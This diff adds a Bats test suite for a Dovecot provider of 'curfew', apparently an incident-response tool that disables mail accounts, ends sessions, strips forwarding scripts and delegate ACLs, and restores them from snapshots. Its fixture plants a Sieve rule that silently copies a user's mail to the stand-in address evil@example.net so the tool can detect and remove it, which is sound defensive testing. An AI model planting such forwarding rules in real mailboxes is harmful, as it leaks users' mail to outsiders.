@@ -1,0 +1,367 @@
+#!/usr/bin/env bats
+# curfew-provider-dovecot and the whole of curfew against a real Dovecot with
+# Pigeonhole: sessions, the deny passdb behind an auth cache, forwarding
+# scripts, delegates, delivery.
+
+setup_file() {
+	load dovecot
+	start_dovecot bot eve anna carl 12345
+}
+
+teardown_file() {
+	load dovecot
+	stop_dovecot
+}
+
+setup() {
+	load dovecot
+	load provider
+	PROVIDER_PID='' SESSION_FD=''
+	dc_reset
+}
+
+teardown() {
+	imap_end_all
+	provider_stop
+}
+
+# ---- the mailboxes as every test finds them -----------------------------------
+
+fwd='require ["copy"];
+# redirect "not@this.one";
+redirect :copy "evil@example.net";
+'
+
+dc_reset() {
+	local user
+	: >"$DC_DIR/auth/deny"
+	touch -d "@$(($(date +%s) - 5 - RANDOM % 10000))" "$DC_DIR/auth/deny"
+	for user in bot eve anna carl; do
+		dc_api "[[\"authCacheFlush\",{\"user\":[\"$user\"]},\"f\"]]" >/dev/null
+	done
+	dc_api "$(jq -nc --arg fwd "$fwd" '[
+		["sievePut", {user: "bot", scriptname: "fwd", file: $fwd}, "1"],
+		["sievePut", {user: "bot", scriptname: "old", file: "keep;\n"}, "2"],
+		["sieveActivate", {user: "bot", scriptname: "fwd"}, "3"],
+		["mailboxCreate", {user: "bot", mailbox: ["Bills"]}, "4"],
+		["aclSet", {user: "bot", mailbox: "INBOX", id: "user=eve",
+			right: ["lookup", "read", "write-seen"]}, "5"],
+		["aclSet", {user: "bot", mailbox: "Bills", id: "user=eve",
+			right: ["lookup", "read"]}, "6"],
+		["aclSet", {user: "anna", mailbox: "INBOX", id: "user=carl",
+			right: ["lookup", "read"]}, "7"]]')" >/dev/null
+}
+
+connect() { # [OPTIONS-JSON]
+	provider_start "$CURFEW_BUILD/curfew-provider-dovecot"
+	ask_json "$(jq -nc --arg url "http://127.0.0.1:$DC_HTTP" --arg key "${KEY:-$DC_KEY}" \
+		--arg imap "imap://127.0.0.1:$DC_IMAP" --arg deny "$DC_DIR/auth/deny" \
+		--argjson more "${1:-"{}"}" '{verb: "hello", protocol: 1, connection: "mail",
+		  options: ({url: $url, imap: $imap, deny_file: $deny} + $more), secret: $key}')"
+}
+
+connected() {
+	connect "$@"
+	expect .status ok
+}
+
+# The listing of one account (all without a name), in $ITEMS
+listed() {
+	if [ $# -gt 0 ]; then ask list account "$1"; else ask list; fi
+	expect .status ok
+	expect .complete true
+}
+
+say_lmtp() { # to text
+	exec {lmtp}<>"/dev/tcp/127.0.0.1/$DC_LMTP"
+	printf '%s\r\n' "LHLO test" "MAIL FROM:<sender@example.org>" "RCPT TO:<$1>" "DATA" \
+		"Subject: $2" "Message-ID: <$2@test>" "" "body" "." "QUIT" >&"$lmtp"
+	timeout 20 cat <&"$lmtp" >"$BATS_TEST_TMPDIR/lmtp" || true
+	exec {lmtp}>&-
+	grep -q '^250 .*Saved' "$BATS_TEST_TMPDIR/lmtp"
+}
+
+in_inbox() { # user subject
+	dc_api "[[\"search\",{\"user\":\"$1\",\"query\":[\"mailbox\",\"INBOX\",\"subject\",\"$2\"]},\"s\"]]" |
+		jq -e '.[0][1] | length > 0'
+}
+
+# ---- what the provider says -------------------------------------------------
+
+@test "hello asks the API: a wrong key is refused, an absent server is retried" {
+	KEY=wrong connect
+	expect .status refused
+	[[ $(got .error) == *"does not take this key"* ]]
+	[[ $ANSWER != *'"wrong"'* ]]
+	provider_stop
+	connect '{"url":"http://127.0.0.1:1"}'
+	expect .status retry
+	provider_stop
+	connect '{"url":"http://192.0.2.1:8080"}'
+	expect .status refused
+	[[ $(got .error) == *"clear text"* ]]
+	provider_stop
+	connect '{"deny_file":"/nowhere/deny"}'
+	expect .status refused
+	provider_stop
+	connected
+	expect .provider dovecot
+}
+
+@test "list shows who reads a mailbox and where it forwards" {
+	connected
+	imap_open eve pw-eve INBOX
+	listed
+	[ "$(item '.what == "account"' | jq -r .account | sort | tr '\n' ' ')" = "12345 anna bot carl eve " ]
+	[ "$(item '.what == "account" and .account == "bot"' | jq -r .attributes.forwards_to)" = evil@example.net ]
+	[[ $(item '.what == "account" and .account == "bot"' | jq -r .attributes.read_by) == *"user=eve (INBOX)"* ]]
+	[ "$(item '.kind == "sieve" and .id == "fwd"' | jq -r .attributes.redirects_to)" = evil@example.net ]
+	[ "$(item '.kind == "sieve" and .id == "old"' | jq -r .attributes.active)" = no ]
+	[ "$(item '.kind == "acl"' | jq -r '"\(.account): \(.id)"' | sort)" = "anna: INBOX user=carl
+bot: Bills user=eve
+bot: INBOX user=eve" ]
+	[ "$(item '.what == "session"' | jq -r .account)" = eve ]
+	[ "$(item '.what == "credential"' | jq -r .state | sort -u)" = active ]
+	# a folder that another one shares is not eve's own grant
+	[ -z "$(item '.what == "grant" and .account == "eve"')" ]
+	listed bot
+	[ -z "$(item '.account != "bot"')" ]
+	ask list account nobody-there
+	expect .status absent
+}
+
+@test "the deny file ends a password that the auth cache remembers" {
+	connected
+	imap_login bot pw-bot # into the cache
+	imap_login bot pw-bot
+	ask probe account bot kind password credential password secret pw-bot
+	expect .life alive
+	ask disable account bot
+	expect .status ok
+	ask disable account bot
+	expect .status ok
+	wait_for refused bot pw-bot
+	ask probe account bot kind password credential password secret pw-bot
+	expect .life dead
+	expect .proof refusal
+	wait_for by_record bot dead
+	expect .proof record
+	imap_login anna pw-anna
+	listed bot
+	[ "$(item '.what == "account"' | jq -r .state)" = disabled ]
+	ask enable account bot
+	expect .status ok
+	wait_for imap_login bot pw-bot
+	[ ! -s "$DC_DIR/auth/deny" ]
+	ask probe account bot
+	expect .life alive
+}
+
+refused() {
+	! imap_login "$1" "$2"
+}
+
+by_record() {
+	ask probe account "$1" && [ "$(got .life)" = "$2" ]
+}
+
+@test "only the server's own refusal is dead: no port, no key, no word" {
+	connected '{"imap":"imap://127.0.0.1:1"}'
+	ask probe account bot kind password credential password secret pw-bot
+	expect .life unknown
+	provider_stop
+	# a server that greets and is busy
+	busy_port=$(dc_port)
+	timeout 60 python3 - "$busy_port" 3>&- <<-'END' &
+		import socket, sys
+		s = socket.socket()
+		s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+		s.bind(("127.0.0.1", int(sys.argv[1])))
+		s.listen(5)
+		for say in (b"NO [UNAVAILABLE] Temporary failure.", b"NO nothing", None):
+		    c, _ = s.accept()
+		    f = c.makefile("rwb")
+		    f.write(b"* OK [CAPABILITY IMAP4rev1 SASL-IR AUTH=PLAIN] ready\r\n"); f.flush()
+		    for line in f:
+		        tag, word = line.split()[:2]
+		        if word.upper() == b"CAPABILITY":
+		            f.write(b"* CAPABILITY IMAP4rev1 SASL-IR AUTH=PLAIN\r\n" + tag + b" OK done\r\n")
+		        elif say is None:
+		            break
+		        else:
+		            f.write(tag + b" " + say + b"\r\n")
+		        f.flush()
+		    c.close()
+	END
+	pid=$!
+	wait_for port_open "$busy_port" # takes the first answer
+	connected "{\"imap\":\"imap://127.0.0.1:$busy_port\"}"
+	for _ in 1 2; do
+		ask probe account bot kind password credential password secret pw-bot
+		expect .life unknown
+	done
+	kill "$pid" 2>/dev/null || true
+	wait "$pid" 2>/dev/null || true
+}
+
+port_open() {
+	(exec 9<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null
+}
+
+@test "cut_sessions ends IDLE, and the delegate who has the mailbox open" {
+	connected
+	imap_open bot pw-bot INBOX
+	bot_log=$IMAP_LOG
+	imap_open eve pw-eve shared/bot/INBOX
+	eve_log=$IMAP_LOG
+	imap_open anna pw-anna INBOX
+	anna_log=$IMAP_LOG
+	ask cut_sessions account bot
+	expect .status ok
+	expect .count 1
+	wait_for grep -q BYE "$bot_log"
+	wait_for grep -q BYE "$eve_log"
+	! grep -q BYE "$anna_log"
+	ask cut_sessions account bot
+	expect .status ok
+	expect .count 0
+	# a name that is also an address
+	imap_open 12345 pw-12345 INBOX
+	ask cut_sessions account 12345
+	expect .count 1
+	wait_for grep -q BYE "$IMAP_LOG"
+	! grep -q BYE "$anna_log"
+}
+
+@test "a name that is a pattern reaches nobody" {
+	connected
+	imap_open anna pw-anna INBOX
+	for name in '*' 'an?a' 'x:y' 'a b' '#anna'; do
+		for verb in disable enable cut_sessions snapshot probe list; do
+			ask "$verb" account "$name"
+			expect .status refused
+		done
+		ask remove_grant account "$name" kind sieve credential fwd
+		expect .status refused
+	done
+	! grep -q BYE "$IMAP_LOG"
+	[ ! -s "$DC_DIR/auth/deny" ]
+}
+
+@test "grants go and come back from the snapshot; nobody else's do" {
+	connected
+	ask snapshot account bot
+	expect .status ok
+	snap=$(got .snapshot)
+	ask remove_grant account bot kind sieve credential fwd
+	expect .status ok
+	ask remove_grant account bot kind sieve credential fwd
+	expect .status absent
+	imap_open eve pw-eve shared/bot/Bills
+	ask remove_grant account bot kind acl credential "Bills user=eve"
+	expect .status ok
+	wait_for grep -q BYE "$IMAP_LOG"
+	ask remove_grant account bot kind acl credential "Bills user=eve"
+	expect .status absent
+	ask disable account bot
+	listed bot
+	[ "$(item '.what == "grant"' | jq -r .id | sort | tr '\n' ',')" = "INBOX user=eve,old," ]
+	ask_json "$(jq -nc --argjson s "$snap" '{verb: "restore", account: "anna", snapshot: $s}')"
+	expect .status refused
+	ask_json "$(jq -nc --argjson s "$snap" '{verb: "restore", account: "bot", snapshot: $s}')"
+	expect .status ok
+	listed bot
+	[ "$(item '.what == "grant"' | jq -r .id | sort | tr '\n' ',')" = "Bills user=eve,INBOX user=eve,fwd,old," ]
+	[ "$(item '.id == "fwd"' | jq -r .attributes.active)" = yes ]
+	[ "$(item '.what == "account"' | jq -r .state)" = active ]
+	ask snapshot account bot
+	[ "$(got '.snapshot | del(.sessions)' | jq -cS '.scripts |= sort_by(.name) | .acls |= sort_by(.mailbox)')" = \
+		"$(jq -cS 'del(.sessions) | .scripts |= sort_by(.name) | .acls |= sort_by(.mailbox)' <<<"$snap")" ]
+	[ "$(got '.snapshot.scripts[] | select(.name == "fwd") | .text')" = "${fwd%$'\n'}" ]
+	wait_for imap_login bot pw-bot
+}
+
+@test "many at once: every line is in the deny file, the operator's stay" {
+	connected
+	printf '# by hand\nzoe' >"$DC_DIR/auth/deny"
+	inode=$(stat -c '%U %a' "$DC_DIR/auth/deny")
+	for i in $(seq 40); do say "{\"verb\":\"disable\",\"account\":\"u$i\"}"; done
+	for i in $(seq 40); do
+		IFS= read -r -t 60 -u "$PROVIDER_OUT" line
+		[[ $line == *'"status":"ok"'* ]]
+	done
+	[ "$(head -2 "$DC_DIR/auth/deny")" = $'# by hand\nzoe' ]
+	[ "$(grep -c '^u[0-9]*$' "$DC_DIR/auth/deny")" = 40 ]
+	[ "$(stat -c '%U %a' "$DC_DIR/auth/deny")" = "$inode" ]
+	before=$(stat -c %Y "$DC_DIR/auth/deny")
+	ask enable account u7
+	expect .status ok
+	! grep -qx u7 "$DC_DIR/auth/deny"
+	grep -qx u17 "$DC_DIR/auth/deny"
+	[ "$(stat -c %Y "$DC_DIR/auth/deny")" -gt "$before" ]
+	[ -z "$(find "$DC_DIR/auth" -name '.curfew*')" ]
+}
+
+# ---- the whole of curfew --------------------------------------------------------
+
+@test "curfew kill: session, password, forwarding and delegate gone; mail goes on; restore" {
+	[ -x "$CURFEW_BUILD/curfew" ] || skip "no core yet"
+	export CURFEW_DIR=$BATS_TEST_TMPDIR/vault CURFEW_PROVIDER_PATH=$CURFEW_BUILD
+	chmod 755 "$BATS_TEST_TMPDIR"
+	"$CURFEW_BUILD/curfew" init --generate-key-file "$BATS_TEST_TMPDIR/key"
+	curfew=("$CURFEW_BUILD/curfew" --key-file "$BATS_TEST_TMPDIR/key")
+	"${curfew[@]}" connect dovecot mail --set "url=http://127.0.0.1:$DC_HTTP" \
+		--set "imap=imap://127.0.0.1:$DC_IMAP" --set "deny_file=$DC_DIR/auth/deny" \
+		--secret-stdin <<<"$DC_KEY"
+	"${curfew[@]}" sync
+	run "${curfew[@]}" list grants
+	echo "$output"
+	[[ $output == *"INBOX user=eve"* ]]
+	[[ $output == *fwd* ]]
+	run "${curfew[@]}" show mail/bot
+	echo "$output"
+	[[ $output == *evil@example.net* ]]
+
+	imap_login bot pw-bot # the cache knows it
+	imap_open bot pw-bot INBOX
+	bot_log=$IMAP_LOG
+	imap_open eve pw-eve shared/bot/INBOX
+	eve_log=$IMAP_LOG
+	imap_open carl pw-carl INBOX
+	carl_log=$IMAP_LOG
+
+	run "${curfew[@]}" kill mail/bot --yes --reason "forwarding to evil"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[[ $output == *"DEAD (proved)"* ]]
+	wait_for grep -q BYE "$bot_log"
+	wait_for grep -q BYE "$eve_log"
+	! grep -q BYE "$carl_log"
+	refused bot pw-bot
+	imap_login carl pw-carl
+	[ "$(dc_api '[["sieveList",{"user":"bot"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
+	[ "$(dc_api '[["aclGet",{"user":"bot","mailbox":"INBOX"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
+	[ "$(dc_api '[["aclGet",{"user":"bot","mailbox":"Bills"},"s"]]')" = '[["doveadmResponse",[],"s"]]' ]
+	# anna's own delegate is nobody's business
+	[[ $(dc_api '[["aclGet",{"user":"anna","mailbox":"INBOX"},"s"]]') == *user=carl* ]]
+	say_lmtp bot after-the-kill
+	in_inbox bot after-the-kill
+
+	incident=$("${curfew[@]}" incident list | grep -o 'INC-[0-9-]*' | head -1)
+	run "${curfew[@]}" incident show "$incident"
+	echo "$output"
+	[[ $output == *snapshot* ]]
+	[[ $output == *fwd* ]]
+	[[ $output == *"INBOX user=eve"* ]]
+	! grep -rq evil@example.net "$CURFEW_DIR" # sealed
+	"${curfew[@]}" incident export "$incident" >"$BATS_TEST_TMPDIR/export"
+	grep -q fwd "$BATS_TEST_TMPDIR/export"
+
+	run "${curfew[@]}" restore "$incident" --yes
+	echo "$output"
+	[ "$status" -eq 0 ]
+	wait_for imap_login bot pw-bot
+	[[ $(dc_api '[["sieveGet",{"user":"bot","scriptname":"fwd"},"s"]]') == *evil@example.net* ]]
+	[[ $(dc_api '[["sieveList",{"user":"bot"},"s"]]') == *'"fwd","active":"ACTIVE"'* ]]
+	[[ $(dc_api '[["aclGet",{"user":"bot","mailbox":"INBOX"},"s"]]') == *"lookup read write-seen"* ]]
+}
